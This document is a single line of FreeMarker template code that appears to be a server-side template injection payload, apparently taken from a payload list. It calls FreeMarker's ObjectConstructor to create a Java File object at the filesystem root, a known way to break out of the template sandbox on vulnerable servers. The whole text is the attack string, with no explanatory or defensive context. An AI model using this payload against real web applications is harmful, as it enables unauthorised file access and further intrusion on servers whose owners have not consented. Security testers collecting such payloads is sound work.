${"freemarker.template.utility.ObjectConstructor"?new()("java.io.File", "/")}
